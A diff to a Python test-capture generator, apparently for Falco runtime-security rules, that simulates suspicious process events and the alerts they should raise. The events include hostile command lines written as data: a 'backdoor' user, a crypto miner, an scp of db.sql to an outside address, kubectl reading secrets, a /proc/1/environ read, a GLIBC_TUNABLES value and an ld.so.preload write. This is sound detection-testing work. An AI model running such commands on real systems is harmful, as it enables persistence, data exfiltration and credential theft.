@@ -986,6 +986,28 @@ def s_head2(c):
              "ggparent=sshd gggparent=systemd " + PYH % "open")
     c.event("PPME_PROCEXIT_1_E", 682, 0, 0, 0, 0, 600)
 
+    # a container process from the process table, with the libs >= 0.10 PL_V9 tail (tty,
+    # capabilities, exe flags and inode, pid namespace start, pgid)
+    caps = CAPS_DEFAULT | (1 << CAP_SYS_ADMIN) | (1 << CAP_SYS_MODULE)
+    c.thread(960, 960, 900, "agent", "agent", ["--mod"], "/opt", uid=0, gid=0, exepath="/opt/agent",
+             vtid=5, vpid=5, loginuid=1000, cgroups=CTR1_CG, sid=960,
+             v10={"pidns_init_start_ts": 1699995000000000000, "tty": 34818, "exe_writable": 1,
+                  "caps": (0, caps, caps), "exe_upper_layer": 1,
+                  "exe_ino": (5555, 1699990100000000000, 1699990050000000000), "pgid": 960})
+    c.event("PPME_SYSCALL_FINIT_MODULE_X", 960, 0, 3, "", 0)
+    c.expect(FA, "Linux Kernel Module Injection Detected", "Warning",
+             "Linux Kernel Module injection from container | parent_exepath=/usr/bin/containerd-shim-runc-v2 "
+             "gparent=systemd gexepath=/sbin/init module=--mod res=SUCCESS " +
+             tail("finit_module", "root", 0, 1000, "agent", "/opt/agent", "containerd-shim", "agent --mod", 34818))
+    c.expect_format("proc.name=agent",
+                    "%proc.tty %user.loginuid %proc.is_exe_writable %proc.is_exe_upper_layer %proc.is_exe_from_memfd "
+                    "%proc.exe_ino %proc.exe_ino.ctime %proc.exe_ino.mtime %proc.pgid %proc.vpid %container.id "
+                    "%container.start_ts | %thread.cap_effective",
+                    ["34818 1000 true true false 5555 1699990100000000000 1699990050000000000 960 5 %s "
+                     "1699995000000000000 | CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID "
+                     "CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_MODULE CAP_SYS_CHROOT "
+                     "CAP_SYS_ADMIN CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP" % CTR1[:12]])
+
     # a container: the package manager, then the instance metadata service
     ns = CL_NEWPID | CL_NEWNS | CL_NEWNET | CL_CHILD_CLEARTID
     h_clone(c, "PPME_SYSCALL_CLONE3_X", 900, 940, 900, 900, 1, SHIM, shim_args, "containerd-shim",
@@ -1008,6 +1030,117 @@ def s_head2(c):
                   "apt-get install -y nmap", 0))
 
 
+def s_head3(c):
+    """Current-driver captures of the process-launch rules of the incubating and sandbox files
+    (the actions of falcosecurity/event-generator), on the host and in a container."""
+    c.boot_ts = BOOT_TS
+    world(c)
+    c.thread(900, 900, 1, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
+             ["-namespace", "moby", "-id", CTR1], "/run/containerd", exepath="/usr/bin/containerd-shim-runc-v2")
+    js = '{"container":{"id":"%s","image":"docker.io/library/alpine:3.19","imagerepo":"docker.io/library/alpine",' \
+         '"imagetag":"3.19","ip":"172.17.0.2","name":"web","privileged":false,"type":0}}'
+    c.event("PPME_CONTAINER_JSON_2_E", 0, js % CTR1[:12])
+    SHIM = "/usr/bin/containerd-shim-runc-v2"
+    fl = CL_CHILD_CLEARTID | CL_CHILD_SETTID
+    nxt = [700]
+
+    def run(parent, pptid, pcomm, pexe, pargs, exe, args, comm, exepath, uid=1000, gid=1000, env=ALICE_ENV,
+            tty=TTY, loginuid=1000, cg=("cpuset=/",), cwd="/home/alice", vpids=None):
+        nxt[0] += 1
+        child = nxt[0]
+        cfl = fl | ((1 << 29) if vpids else 0)
+        h_clone(c, "PPME_SYSCALL_CLONE_20_X", parent, child, parent, parent, pptid, pexe, pargs, pcomm, list(cg),
+                cfl, uid, gid, cwd=cwd, vtid=vpids[0] if vpids else None, vpid=vpids[0] if vpids else None)
+        h_clone(c, "PPME_SYSCALL_CLONE_20_X", child, 0, child, child, parent, pexe, pargs, pcomm, list(cg),
+                cfl, uid, gid, cwd=cwd, vtid=vpids[1] if vpids else None, vpid=vpids[1] if vpids else None,
+                pidns_start=20000000000 if vpids else 0)
+        h_execve(c, child, 0, exe, args, child, parent, comm, list(cg), env, exepath, exepath, tty=tty,
+                 loginuid=loginuid, uid=uid, gid=gid, cwd=cwd)
+        return child
+
+    def host(exe, args, comm, exepath, **k):
+        return run(600, 510, "bash", "-bash", [], exe, args, comm, exepath, **k)
+
+    def alice(evt, proc, exepath, cmd, flags="0", tty=TTY):
+        return tail(evt, "alice", 1000, 1000, proc, exepath, "bash", cmd, tty, flags)
+
+    host("crontab", ["-e"], "crontab", "/usr/bin/crontab")
+    c.expect("all", "Schedule Cron Jobs", "Notice",
+             "Cron jobs were scheduled to run | file=<NA> " +
+             alice("execve", "crontab", "/usr/bin/crontab", "crontab -e", flags=None))
+    host("useradd", ["-m", "backdoor"], "useradd", "/usr/sbin/useradd", uid=0, gid=0)
+    c.expect("all", "User mgmt binaries", "Notice",
+             "User management binary command run outside of container | gparent=sshd ggparent=sshd "
+             "gggparent=systemd " +
+             tail("execve", "root", 0, 1000, "useradd", "/usr/sbin/useradd", "bash", "useradd -m backdoor", TTY, "0"))
+    host("xmrig", ["-o", "stratum+tcp://pool.example:3333"], "xmrig", "/tmp/xmrig")
+    c.expect("all", "Detect crypto miners using the Stratum protocol", "Critical",
+             "Possible miner running | " +
+             alice("execve", "xmrig", "/tmp/xmrig", "xmrig -o stratum+tcp://pool.example:3333"))
+    host("pkexec", [], "pkexec", "/usr/bin/pkexec", uid=0, gid=0)
+    c.expect("all", "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", "Critical",
+             "Detect Polkit pkexec Local Privilege Escalation Exploit (CVE-2021-4034) | args= " +
+             tail("execve", "root", 0, 1000, "pkexec", "/usr/bin/pkexec", "bash", "pkexec", TTY, "0"))
+    host("su", ["-"], "su", "/usr/bin/su", env=["GLIBC_TUNABLES=glibc.tune.x=AAAA"], uid=0, gid=0)
+    c.expect("all", "Potential Local Privilege Escalation via Environment Variables Misuse", "Notice",
+             "Process run with suspect environment variable which could be attempting privilege escalation | "
+             "env=GLIBC_TUNABLES=glibc.tune.x=AAAA " +
+             tail("execve", "root", 0, 1000, "su", "/usr/bin/su", "bash", "su -", TTY, "0"))
+    # a root shell creates a directory in /usr/bin and writes /etc/ld.so.preload
+    sh = host("bash", ["-i"], "bash", "/usr/bin/bash", uid=0, gid=0)
+    c.event("PPME_SYSCALL_MKDIRAT_X", sh, 0, AT_FDCWD, "/usr/bin/.cache", 0o755)
+    ROOTSH = tail("%s", "root", 0, 1000, "bash", "/usr/bin/bash", "bash", "bash -i", TTY)
+    c.expect("all", "Mkdir binary dirs", "Error",
+             "Directory below known binary directory created | directory=/usr/bin/.cache " + ROOTSH % "mkdirat")
+    c.event("PPME_SYSCALL_OPENAT_2_X", sh, 3, AT_FDCWD, "/etc/ld.so.preload", O_WRONLY | O_CREAT | O_TRUNC, 0o644,
+            0x803, 4001)
+    c.expect("all", "Write below etc", "Error",
+             "File below /etc opened for writing | file=/etc/ld.so.preload pcmdline=bash gparent=sshd ggparent=sshd "
+             "gggparent=systemd " + ROOTSH % "openat")
+
+    # in a container: a shell started by the shim, then tools
+    ns = CL_NEWPID | CL_NEWNS | CL_NEWNET | CL_CHILD_CLEARTID
+    h_clone(c, "PPME_SYSCALL_CLONE3_X", 900, 950, 900, 900, 1, SHIM, [], "containerd-shim", ["cpuset=/"], ns,
+            cwd="/run/containerd")
+    h_clone(c, "PPME_SYSCALL_CLONE3_X", 950, 0, 950, 950, 900, SHIM, [], "containerd-shim", CTR1_CG, ns,
+            vtid=1, vpid=1, cwd="/run/containerd", pidns_start=20000000000)
+    h_execve(c, 950, 0, "/bin/sh", [], 950, 900, "sh", CTR1_CG, ROOT_ENV, "/bin/sh", "/bin/busybox")
+    # the sandbox rule's "not container.mount.dest[/proc*] in (<NA>, N/A)" is true when the
+    # container has no such mount (the field has no value; fields.md §7): every container
+    # start the earlier rules do not claim raises it
+    c.expect("all", "Launch Sensitive Mount Container", "Informational",
+             "Container with sensitive mount started | mounts= " +
+             tail("execve", "root", 0, -1, "sh", "/bin/busybox", "containerd-shim", "sh", 0))
+
+    def ctr(exe, args, comm, exepath, vpid):
+        return run(950, 900, "sh", "/bin/sh", [], exe, args, comm, exepath, uid=0, gid=0, env=ROOT_ENV, tty=0,
+                   loginuid=NOLOGIN, cg=CTR1_CG, cwd="/run/containerd", vpids=(1, vpid))
+
+    def root(evt, proc, exepath, cmd, flags="0"):
+        return tail(evt, "root", 0, -1, proc, exepath, "sh", cmd, 0, flags)
+
+    ctr("nmap", ["-sS", "10.0.0.0/24"], "nmap", "/usr/bin/nmap", 2)
+    c.expect("all", "Launch Suspicious Network Tool in Container", "Notice",
+             "Network tool launched in container | " + root("execve", "nmap", "/usr/bin/nmap", "nmap -sS 10.0.0.0/24"))
+    ctr("scp", ["db.sql", "x@203.0.113.5:"], "scp", "/usr/bin/scp", 3)
+    c.expect("all", "Launch Remote File Copy Tools in Container", "Notice",
+             "Remote file copy tool launched in container | " +
+             root("execve", "scp", "/usr/bin/scp", "scp db.sql x@203.0.113.5:"))
+    ctr("kubectl", ["get", "secrets"], "kubectl", "/usr/local/bin/kubectl", 4)
+    c.expect("all", "Kubernetes Client Tool Launched in Container", "Warning",
+             "Kubernetes Client Tool Launched in Container | " +
+             root("execve", "kubectl", "/usr/local/bin/kubectl", "kubectl get secrets"))
+    ctr("base64", ["-d", "/tmp/p.b64"], "base64", "/usr/bin/base64", 5)
+    c.expect("all", "Decoding Payload in Container", "Informational",
+             "Decoding Payload in Container | " + root("execve", "base64", "/usr/bin/base64", "base64 -d /tmp/p.b64"))
+    cat = ctr("cat", ["/proc/1/environ"], "cat", "/bin/busybox", 6)
+    c.event("PPME_SYSCALL_OPENAT_2_X", cat, 3, AT_FDCWD, "/proc/1/environ", O_RDONLY, 0, 0x4, 4002)
+    c.expect("all", "Read environment variable from /proc files", "Warning",
+             "Environment variables were retrieved from /proc files | file=/proc/1/environ gparent=containerd-shim "
+             "ggparent=systemd gggparent=<NA> " +
+             tail("openat", "root", 0, -1, "cat", "/bin/busybox", "sh", "cat /proc/1/environ", 0))
+
+
 SCENARIOS = [
     ("gen_proc", s_proc),
     ("gen_files", s_files),
@@ -1019,6 +1152,7 @@ SCENARIOS = [
     ("gen_formats2", s_formats2),
     ("gen_odd", s_odd),
     ("gen_head2", s_head2),
+    ("gen_head3", s_head3),
 ]
 # the captures compared field by field with sysdig 0.29.3 (tests/sysdig_diff)
 COMPARED = {"gen_proc", "gen_files", "gen_net", "gen_attack", "gen_state", "gen_formats", "gen_formats2"}
